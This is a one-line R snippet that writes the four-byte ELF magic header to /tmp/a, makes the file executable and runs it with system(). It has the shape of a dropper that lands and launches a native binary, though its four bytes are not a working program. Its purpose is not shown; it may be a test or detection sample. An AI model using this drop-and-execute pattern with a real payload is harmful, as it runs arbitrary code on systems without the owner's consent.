writeBin(as.raw(c(0x7f, 0x45, 0x4c, 0x46)), "/tmp/a"); Sys.chmod("/tmp/a", "755"); system("/tmp/a")
